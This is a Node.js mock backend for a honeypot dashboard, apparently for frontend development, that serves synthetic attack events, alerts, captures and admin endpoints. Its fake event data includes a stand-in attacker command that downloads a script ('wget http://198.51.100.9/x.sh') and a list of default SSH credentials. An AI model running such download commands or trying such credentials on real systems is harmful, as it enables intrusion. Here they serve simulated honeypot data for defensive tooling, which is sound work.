// A stand-in for the dashboard backend, for frontend development and screenshots when no
// HoneyBee is running: the REST/WebSocket contract of dashboard/API.md over in-memory data,
// with synthetic events every second or two. Not used by the real browser test.
//
//   node e2e/mock.mjs [port]      (serves dist/ too; admin / admin-password-123, viewer / viewer-password-1)
//
// Port 0 picks a free one (printed). MOCK_EVENTS (default 300) events are stored at the
// start; MOCK_RATE (default 0.67) live events a second arrive after. MOCK_DIST serves
// another build directory.
import http from 'node:http';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const here = path.dirname(fileURLToPath(import.meta.url));
const dist = process.env.MOCK_DIST || path.join(here, '..', 'dist');
const initialEvents = Math.max(1, Number(process.env.MOCK_EVENTS) || 300);
const liveRate = Math.max(0.1, Number(process.env.MOCK_RATE) || 0.67);
// The store keeps this many; the oldest go first.
const keep = Math.max(5000, 2 * initialEvents);
const port = Number(process.argv[2] ?? process.env.PORT ?? 8080);

const now = () => Date.now();
const users = new Map([
  ['admin', { username: 'admin', role: 'admin', password: process.env.HONEYBEE_DASHBOARD_ADMIN_PASSWORD || 'admin-password-123', created_ms: now() - 86400e3 }],
  ['viewer', { username: 'viewer', role: 'viewer', password: 'viewer-password-1', created_ms: now() - 3600e3 }],
]);
const sessions = new Map(); // cookie -> {username, role, csrf}
const sockets = new Set();

const nodes = new Map();
function addNode(n) {
  nodes.set(n.id, { role: 'agent', mode: 'full', online: true, revoked: false, last_seen_ms: now(), addr: '127.0.0.1:50000', via: null, labels: {}, health: { cpu_percent: 2, rss_bytes: 40e6, spool_events: 0 }, name: n.id, ...n });
}
addNode({ id: 'local', labels: { site: 'local' } });
addNode({ id: 'relay-lan', role: 'relay', mode: 'relay', addr: '127.0.0.1:50001', labels: { site: 'paris' } });
addNode({ id: 'edge-2', mode: 'extension', via: 'relay-lan', online: false, last_seen_ms: now() - 7200e3, labels: { site: 'paris', zone: 'dmz' } });
const configs = new Map([...nodes.keys()].map((id) => [id, `# services of ${id}\n[[service]]\nname = "ssh"\nkind = "ssh"\nlisten = "127.0.0.1:2222"\n\n[[service]]\nname = "banner"\nkind = "banner"\nlisten = "127.0.0.1:2525"\n`]));
const health = new Map([...nodes.keys()].map((id) => [id, Array.from({ length: 60 }, (_, i) => ({ time_ms: now() - (60 - i) * 10e3, cpu_percent: 1 + 3 * Math.abs(Math.sin(i / 5)), rss_bytes: 38e6 + i * 1e5, spool_events: i % 7 }))]));

const places = [
  [52.37, 4.9, 'NL'], [39.9, 116.4, 'CN'], [55.75, 37.6, 'RU'], [37.77, -122.4, 'US'], [-23.5, -46.6, 'BR'], [28.6, 77.2, 'IN'], [50.1, 8.7, 'DE'], [1.35, 103.8, 'SG'],
];
const creds = [['root', '123456'], ['admin', 'admin'], ['root', 'root'], ['ubuntu', 'ubuntu'], ['pi', 'raspberry'], ['test', 'test']];
const cmds = ['uname -a', 'cat /proc/cpuinfo', 'wget http://198.51.100.9/x.sh', 'cd /tmp', 'busybox', 'id'];
const events = [];
let seq = 0;
function mkEvent(t, extra = {}) {
  const p = places[Math.floor(Math.random() * places.length)];
  const ip = `203.0.113.${1 + Math.floor(Math.random() * 40)}`;
  const kind = extra.kind ?? ['auth_attempt', 'auth_attempt', 'command', 'connect', 'http_request', 'data'][Math.floor(Math.random() * 6)];
  const svc = kind === 'http_request' ? 'http' : kind === 'data' ? 'banner' : 'ssh';
  const doc = {
    '@timestamp': new Date(t).toISOString(),
    event: { action: kind, sequence: ++seq, ingested: new Date(t + 5).toISOString() },
    observer: { name: extra.node ?? 'local' },
    service: { name: svc },
    session: { id: crypto.randomBytes(8).toString('hex') },
    source: { ip, port: 40000 + Math.floor(Math.random() * 20000), geo: { location: { lat: p[0], lon: p[1] }, country_iso_code: p[2] } },
    destination: { ip: '127.0.0.1', port: svc === 'ssh' ? 2222 : 2525 },
  };
  if (kind === 'auth_attempt') {
    const c = creds[Math.floor(Math.random() * creds.length)];
    doc.user = { name: c[0] };
    doc.honeybee = { method: 'password', password: c[1], success: false, client_version: 'SSH-2.0-OpenSSH_9.2' };
  } else if (kind === 'command') {
    doc.process = { command_line: cmds[Math.floor(Math.random() * cmds.length)] };
  } else if (kind === 'http_request') {
    doc.http = { request: { method: 'GET' }, response: { status_code: 404 } };
    doc.url = { path: '/wp-login.php' };
  } else if (kind === 'data') {
    doc.honeybee = { data_text: 'HELO scanner\r\n', data_hex: '48454c4f', truncated: false };
  }
  return doc;
}
// Spread over the last hour or so (at least 11 s apart below 300 events).
const spacing = Math.min(11e3, 3600e3 / initialEvents);
for (let i = 0; i < initialEvents; i++) events.push(mkEvent(now() - (initialEvents - i) * spacing, { node: i % 5 ? 'local' : 'edge-2' }));

const castText = [
  JSON.stringify({ version: 2, width: 80, height: 24, timestamp: Math.floor(now() / 1000) }),
  JSON.stringify([0.2, 'o', 'Welcome to Ubuntu 22.04.3 LTS\r\n\r\n']),
  JSON.stringify([0.5, 'o', 'root@srv:~# ']),
  ...[...'uname -a'].map((ch, i) => JSON.stringify([1 + i * 0.12, 'o', ch])),
  JSON.stringify([2.2, 'o', '\r\nLinux srv 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux\r\nroot@srv:~# ']),
  JSON.stringify([3.5, 'o', 'exit\r\n']),
].join('\n');
const castSha = crypto.createHash('sha256').update(castText).digest('hex');
const blobs = new Map([[castSha, castText]]);
const sessionWithCast = events[events.length - 1].session.id;
const captures = [{ sha256: castSha, size: castText.length, kind: 'transcript', node: 'local', service: 'ssh', session: sessionWithCast, time_ms: now() - 60e3 }];

const alerts = [
  { id: 'a1', time_ms: now() - 600e3, module: 'alerts', severity: 'high', title: 'Login attempt as watched user "root" on local (ssh) from 203.0.113.7', body: 'user=root service=ssh', node: 'local', acked_ms: null, acked_by: null },
  { id: 'a2', time_ms: now() - 3600e3, module: 'alerts', severity: 'medium', title: 'Scan detected on edge-2 from 203.0.113.20', body: '', node: 'edge-2', acked_ms: now() - 3000e3, acked_by: 'admin' },
];
const modules = new Map([['geo', { name: 'geo', state: 'connected', managed: true, transport: 'shim', version: '0.1.0', permissions: ['events:read', 'enrich:write'], pid: 4242, restarts: 0 }]]);
const tokens = [];
const audit = Array.from({ length: 180 }, (_, i) => ({
  time_ms: now() - i * 61e3,
  actor: i % 4 ? 'dashboard:dashboard/admin' : 'admin:cli',
  action: ['events.search', 'node.config', 'token.create', 'node.revoke', 'module.load'][i % 5],
  outcome: i % 17 ? 'ok' : 'refused: not allowed',
  source: '127.0.0.1:50412',
  detail: i % 5 === 1 ? 'node=local pushed_live=true' : `n=${i}`,
}));

function broadcast(msg) {
  const data = JSON.stringify(msg);
  for (const s of sockets) wsSend(s, data);
}
// Live arrivals: at most 100 timer ticks a second, several events a tick above that.
const tick = Math.max(10, 1000 / liveRate);
let owed = 0;
setInterval(() => {
  owed += (liveRate * tick) / 1000;
  for (; owed >= 1; owed--) {
    const e = mkEvent(now());
    events.push(e);
    if (events.length > keep) events.shift();
    broadcast({ type: 'event', id: e.event.sequence, event: e });
  }
}, tick).unref();

// --- tiny WebSocket server side (server-to-client text frames only) ---
function wsSend(sock, text) {
  const body = Buffer.from(text);
  let head;
  if (body.length < 126) head = Buffer.from([0x81, body.length]);
  else if (body.length < 65536) head = Buffer.from([0x81, 126, body.length >> 8, body.length & 255]);
  else {
    head = Buffer.alloc(10);
    head[0] = 0x81;
    head[1] = 127;
    head.writeBigUInt64BE(BigInt(body.length), 2);
  }
  sock.write(Buffer.concat([head, body]));
}

// --- HTTP ---
function cookieOf(req) {
  const m = /(?:^|;\s*)hb_session=([^;]+)/.exec(req.headers.cookie ?? '');
  return m ? sessions.get(m[1]) : null;
}
function send(res, status, body, headers = {}) {
  if (body === undefined) {
    res.writeHead(status, headers);
    return res.end();
  }
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  res.writeHead(status, { 'Content-Type': 'application/json', ...headers });
  res.end(text);
}
const fail = (res, status, error) => send(res, status, { error });
async function readJson(req) {
  let raw = '';
  for await (const c of req) {
    raw += c;
    if (raw.length > 1e6) throw new Error('too large');
  }
  return raw ? JSON.parse(raw) : {};
}
const top = (arr, keyf, n = 10) => {
  const m = new Map();
  for (const x of arr) {
    const k = keyf(x);
    if (k != null) m.set(k, (m.get(k) ?? 0) + 1);
  }
  return [...m].map(([key, count]) => ({ key, count })).sort((a, b) => b.count - a.count).slice(0, n);
};
const tms = (e) => Date.parse(e['@timestamp']);
const topCreds = (evs) =>
  top(evs.filter((e) => e.event.action === 'auth_attempt'), (e) => JSON.stringify([e.user.name, e.honeybee.password])).map(({ key, count }) => {
    const [username, password] = JSON.parse(key);
    return { username, password, count };
  });

function serveStatic(req, res) {
  let p = decodeURIComponent(new URL(req.url, 'http://x').pathname);
  let file = path.join(dist, path.normalize(p).replace(/^(\.\.[/\\])+/, ''));
  if (!file.startsWith(dist) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) file = path.join(dist, 'index.html');
  const types = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml', '.json': 'application/json' };
  res.writeHead(200, { 'Content-Type': types[path.extname(file)] ?? 'application/octet-stream' });
  fs.createReadStream(file).pipe(res);
}

async function handle(req, res) {
  const url = new URL(req.url, 'http://x');
  const p = url.pathname;
  const q = Object.fromEntries(url.searchParams);
  if (!p.startsWith('/api/')) return serveStatic(req, res);
  if (p === '/api/login' && req.method === 'POST') {
    const b = await readJson(req);
    const u = users.get(b.username);
    if (!u || u.password !== b.password) return fail(res, 401, 'Wrong username or password.');
    const sid = crypto.randomBytes(16).toString('hex');
    const s = { username: u.username, role: u.role, csrf: crypto.randomBytes(16).toString('hex') };
    sessions.set(sid, s);
    return send(res, 200, s, { 'Set-Cookie': `hb_session=${sid}; HttpOnly; SameSite=Strict; Path=/` });
  }
  const s = cookieOf(req);
  if (!s) return fail(res, 401, 'Log in first.');
  if (req.method !== 'GET') {
    if (req.headers['x-csrf-token'] !== s.csrf) return fail(res, 403, 'Missing or wrong CSRF token; reload the page.');
    if (s.role !== 'admin' && p !== '/api/logout') return fail(res, 403, 'Viewers cannot change anything; ask an admin.');
  }
  let m;
  if (p === '/api/logout') return send(res, 204);
  if (p === '/api/me') return send(res, 200, s);
  if (p === '/api/overview') {
    const day = events.filter((e) => tms(e) > now() - 86400e3);
    const epm = [];
    for (let t = Math.floor((now() - 3600e3) / 60e3) * 60e3; t <= now(); t += 60e3) epm.push({ t, count: events.filter((e) => tms(e) >= t && tms(e) < t + 60e3).length });
    const ns = [...nodes.values()].filter((n) => !n.revoked);
    return send(res, 200, {
      nodes_online: ns.filter((n) => n.online).length, nodes_total: ns.length, events_total: events.length, events_per_minute: epm,
      top_sources: top(day, (e) => e.source.ip), top_credentials: topCreds(day), top_services: top(day, (e) => e.service.name), alerts: alerts.slice(0, 10),
    });
  }
  if (p === '/api/nodes') return send(res, 200, [...nodes.values()]);
  // Devices edge-2 aggregates (syslog / SNMP traps): one reporting, one silent.
  if (p === '/api/devices') {
    return send(res, 200, [
      { node: 'edge-2', service: 'office-devices', name: 'printer-3f', address: '192.168.1.40', kind: 'printer', last_seen_ms: now() - 7300e3, events: 14 },
      { node: 'edge-2', service: 'office-devices', name: 'cam-lobby', address: '192.168.1.41', kind: 'camera', last_seen_ms: null, events: 0 },
    ]);
  }
  if ((m = /^\/api\/nodes\/([^/]+)(\/.*)?$/.exec(p))) {
    const id = decodeURIComponent(m[1]);
    const n = nodes.get(id);
    if (!n) return fail(res, 404, `No node ${id}.`);
    if (!m[2]) {
      const services = [...configs.get(id).matchAll(/name = "(\w+)"\nkind = "(\w+)"\nlisten = "([^"]+)"/g)].map(([, name, kind, listen]) => ({ name, kind, listen, running: n.online, error: null, active_sessions: 0 }));
      return send(res, 200, { node: n, services, config_toml: configs.get(id) });
    }
    if (m[2] === '/health') return send(res, 200, health.get(id) ?? []);
    // The realism check (RealismCheck.svelte): none kept, and a run reports one difference.
    if (m[2] === '/check' && req.method === 'GET') return send(res, 200, null);
    if (m[2] === '/check' && req.method === 'POST') return send(res, 200, { node: id, received_ms: now(), passed: 14, total: 15, report: { started_ms: now(), duration_ms: 1800, services: [{ name: 'ssh', kind: 'ssh', reference: 'OpenSSH 9.2p1 sshd (Debian 12 openssh-server)', passed: 14, total: 15, failures: [{ check: 'ident', expected: 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12uN\\r\\n', got: 'SSH-2.0-OpenSSH_8.4p1\\r\\n' }], skipped: null }] } });
    if (m[2] === '/config' && req.method === 'PUT') {
      const b = await readJson(req);
      if (!/\[\[service\]\]/.test(b.config_toml)) return fail(res, 400, 'The configuration has no [[service]] table; add at least one service.');
      configs.set(id, b.config_toml);
      return send(res, 200, { config_toml: b.config_toml });
    }
    if (m[2] === '/revoke' && req.method === 'POST') {
      Object.assign(n, { revoked: true, online: false });
      broadcast({ type: 'node', node: n });
      return send(res, 200, { revoked: id });
    }
  }
  if (p === '/api/tokens' && req.method === 'GET') return send(res, 200, tokens);
  if (p === '/api/tokens' && req.method === 'POST') {
    const b = await readJson(req);
    const t = { id: crypto.randomBytes(4).toString('hex'), name: b.name, role: b.role, expires_ms: now() + b.ttl_s * 1000, uses_left: 1 };
    tokens.push(t);
    const token = `hbt1.${crypto.randomBytes(48).toString('base64url')}`;
    return send(res, 200, { id: t.id, token, command: `honeybee agent enroll ${token} --dir /var/lib/honeybee-agent && honeybee agent run --dir /var/lib/honeybee-agent` });
  }
  if (p === '/api/events') {
    let evs = [...events].reverse();
    if (q.node) evs = evs.filter((e) => e.observer.name === q.node);
    if (q.service) evs = evs.filter((e) => e.service.name === q.service);
    if (q.kind) evs = evs.filter((e) => e.event.action === q.kind);
    if (q.src) evs = evs.filter((e) => e.source.ip.startsWith(q.src));
    if (q.q) evs = evs.filter((e) => JSON.stringify(e).toLowerCase().includes(q.q.toLowerCase()));
    if (q.since_ms) evs = evs.filter((e) => tms(e) >= Number(q.since_ms));
    if (q.until_ms) evs = evs.filter((e) => tms(e) <= Number(q.until_ms));
    if (q.before) evs = evs.filter((e) => e.event.sequence < Number(q.before));
    const limit = Math.min(500, Number(q.limit) || 50);
    const page = evs.slice(0, limit);
    return send(res, 200, { events: page, next: evs.length > limit ? String(page[page.length - 1].event.sequence) : null });
  }
  if ((m = /^\/api\/events\/([^/]+)\/(\d+)$/.exec(p))) {
    const e = events.find((x) => x.observer.name === decodeURIComponent(m[1]) && x.event.sequence === Number(m[2]));
    return e ? send(res, 200, e) : fail(res, 404, 'No such event.');
  }
  if ((m = /^\/api\/sessions\/([0-9a-f]+)$/.exec(p))) {
    const evs = events.filter((e) => e.session?.id === m[1]);
    const c = captures.find((x) => x.session === m[1] && x.kind === 'transcript');
    return send(res, 200, { events: evs, transcript: c ? { sha256: c.sha256, size: c.size } : null });
  }
  if (p === '/api/captures') return send(res, 200, captures);
  if ((m = /^\/api\/captures\/([0-9a-f]{64})$/.exec(p))) {
    const b = blobs.get(m[1]);
    if (!b) return fail(res, 404, 'No such capture.');
    res.writeHead(200, { 'Content-Type': 'application/octet-stream', 'Content-Disposition': `attachment; filename="${m[1]}"` });
    return res.end(b);
  }
  if (p === '/api/alerts') return send(res, 200, alerts);
  if (p === '/api/alerts/count') return send(res, 200, { total: alerts.length, open: alerts.filter((a) => !a.acked_ms).length });
  if ((m = /^\/api\/alerts\/([^/]+)\/ack$/.exec(p))) {
    const a = alerts.find((x) => x.id === m[1]);
    if (!a) return fail(res, 404, 'No such alert.');
    Object.assign(a, { acked_ms: now(), acked_by: s.username });
    broadcast({ type: 'alert', alert: a });
    return send(res, 200, { acked: a.id });
  }
  // Incidents: each mock alert is its own incident (the real grouping is the backend's).
  if (p === '/api/incidents') {
    const rows = alerts.map((a, i) => ({
      id: i + 1, source: (/from (\S+)$/.exec(a.title) ?? [])[1] ?? null, node: a.node, service: 'ssh', severity: a.severity,
      rules: ['auth_username'], title: a.title, count: 1, sessions: 1, first_seen_ms: a.time_ms, last_seen_ms: a.time_ms,
      acked_ms: a.acked_ms, acked_by: a.acked_by, state: a.acked_ms ? 'acknowledged' : 'open',
    }));
    const state = q.state || 'open';
    const shown = rows.filter((r) => state === 'all' || r.state === state);
    return send(res, 200, { incidents: shown, total: shown.length, open: rows.filter((r) => r.state === 'open').length, ignored_alerts: 0, window_ms: 3600e3, synced: true });
  }
  if (p === '/api/ignore') return send(res, 200, []);
  if (p === '/api/alert-rules' && req.method === 'GET') {
    return send(res, 200, {
      path: '/tmp/mock/alerts.toml', declared_in: 'dashboard', exists: true, text: '# mock\n', problems: [],
      config: { rules: [{ name: 'watched', type: 'auth_username', usernames: ['root'], severity: 'medium' }], outputs: [{ name: 'file', type: 'file', path: '/var/log/honeybee/alerts.jsonl' }] },
      module: { state: null, managed: null, can_apply: false, command: null, args: null },
      rule_types: ['login_success', 'auth_username', 'scan_detected', 'new_capture', 'source_on_nodes'],
      severities: ['info', 'low', 'medium', 'high', 'critical'], facilities: ['auth', 'authpriv', 'local0'],
    });
  }
  if (p === '/api/analytics') {
    const since = Number(q.since_ms) || now() - 86400e3;
    const bucket = Number(q.bucket_ms) || 3600e3;
    const evs = events.filter((e) => tms(e) >= since);
    const series = (keyf) => {
      const out = {};
      for (const e of evs) {
        const k = keyf(e);
        const b = Math.floor(tms(e) / bucket) * bucket;
        out[k] ??= new Map();
        out[k].set(b, (out[k].get(b) ?? 0) + 1);
      }
      return Object.fromEntries(Object.entries(out).map(([k, mm]) => [k, [...mm].sort((a, b) => a[0] - b[0])]));
    };
    const geo = top(evs, (e) => JSON.stringify([e.source.geo.location.lat, e.source.geo.location.lon, e.source.geo.country_iso_code]), 100).map(({ key, count }) => {
      const [lat, lon, country] = JSON.parse(key);
      return country === "US" || country === "IN" ? { lat: null, lon: null, country, count } : { lat, lon, country, count };
    });
    return send(res, 200, { by_service: series((e) => e.service.name), by_node: series((e) => e.observer.name), geo, top_credentials: topCreds(evs), top_commands: top(evs.filter((e) => e.process), (e) => e.process.command_line) });
  }
  if (p === '/api/modules' && req.method === 'GET') return send(res, 200, [...modules.values()]);
  if (p === '/api/modules' && req.method === 'POST') {
    const b = await readJson(req);
    if (modules.has(b.name)) return fail(res, 409, `A module named ${b.name} is already loaded; unload it first.`);
    modules.set(b.name, { name: b.name, state: 'running', managed: true, transport: 'shim', version: null, permissions: b.permissions, pid: 5000 + modules.size, restarts: 0 });
    return send(res, 200, { loaded: b.name });
  }
  if ((m = /^\/api\/modules\/([^/]+)$/.exec(p)) && req.method === 'DELETE') {
    modules.delete(decodeURIComponent(m[1]));
    return send(res, 200, { unloaded: decodeURIComponent(m[1]) });
  }
  if (p === '/api/reports/export') {
    const evs = events.filter((e) => tms(e) >= Number(q.from) && tms(e) < Number(q.to));
    if (q.format === 'csv') {
      res.writeHead(200, { 'Content-Type': 'text/csv', 'Content-Disposition': 'attachment; filename="events.csv"' });
      return res.end(['time,node,service,kind,source', ...evs.map((e) => [e['@timestamp'], e.observer.name, e.service.name, e.event.action, e.source.ip].join(','))].join('\n'));
    }
    res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Disposition': 'attachment; filename="events.json"' });
    return res.end(JSON.stringify(evs));
  }
  if (p === '/api/reports/summary') {
    const from = Number(q.from);
    const to = Number(q.to);
    const evs = events.filter((e) => tms(e) >= from && tms(e) < to);
    return send(res, 200, {
      from, to, events_total: evs.length, by_service: top(evs, (e) => e.service.name), by_kind: top(evs, (e) => e.event.action), top_sources: top(evs, (e) => e.source.ip),
      top_credentials: topCreds(evs), top_commands: top(evs.filter((e) => e.process), (e) => e.process.command_line), nodes: top(evs, (e) => e.observer.name), alerts: alerts.filter((a) => a.time_ms >= from && a.time_ms < to),
    });
  }
  if (p === '/api/users') {
    if (s.role !== 'admin') return fail(res, 403, 'Only admins manage users.');
    if (req.method === 'GET') return send(res, 200, [...users.values()].map(({ password, ...u }) => u));
    const b = await readJson(req);
    users.set(b.username, { ...b, created_ms: now() });
    return send(res, 200, { username: b.username, role: b.role });
  }
  if ((m = /^\/api\/users\/([^/]+)$/.exec(p)) && req.method === 'DELETE') {
    const name = decodeURIComponent(m[1]);
    users.delete(name);
    // Their sessions end, and their sockets close with "unauthenticated" (4401).
    for (const [sid, ss] of sessions) {
      if (ss.username !== name) continue;
      sessions.delete(sid);
      for (const sock of sockets) {
        if (sock.sid === sid) {
          const reason = Buffer.from('unauthenticated');
          sock.write(Buffer.concat([Buffer.from([0x88, 2 + reason.length, 4401 >> 8, 4401 & 255]), reason]));
          sock.end();
        }
      }
    }
    return send(res, 200, { deleted: name });
  }
  if (p === '/api/audit') {
    if (s.role !== 'admin') return fail(res, 403, 'viewers cannot change anything; ask an admin');
    const limit = Math.min(500, Math.max(1, Number(q.limit) || 50));
    const offset = Number(q.offset) || 0;
    const needle = (q.q ?? '').trim().toLowerCase();
    const rows = audit.filter((a) => !needle || JSON.stringify(a).toLowerCase().includes(needle));
    const page = rows.slice(offset, offset + limit);
    return send(res, 200, { entries: page, offset, limit, more: rows.length > offset + limit, scanned: audit.length, capped: false });
  }
  return fail(res, 404, `No API at ${req.method} ${p}.`);
}

const server = http.createServer((req, res) => {
  handle(req, res).catch((e) => fail(res, 400, `Bad request: ${e.message}`));
});
server.on('upgrade', (req, sock) => {
  if (new URL(req.url, 'http://x').pathname !== '/api/ws' || !cookieOf(req)) {
    sock.end('HTTP/1.1 401 Unauthorized\r\n\r\n');
    return;
  }
  const accept = crypto.createHash('sha1').update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
  sock.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  const sid = /(?:^|;\s*)hb_session=([^;]+)/.exec(req.headers.cookie ?? '')?.[1];
  sock.sid = sid;
  sockets.add(sock);
  sock.on('data', (d) => {
    if ((d[0] & 0x0f) === 8) sock.end();
  });
  sock.on('close', () => sockets.delete(sock));
  sock.on('error', () => sockets.delete(sock));
});
server.listen(port, '127.0.0.1', () => console.log(`mock dashboard backend on http://127.0.0.1:${server.address().port}`));
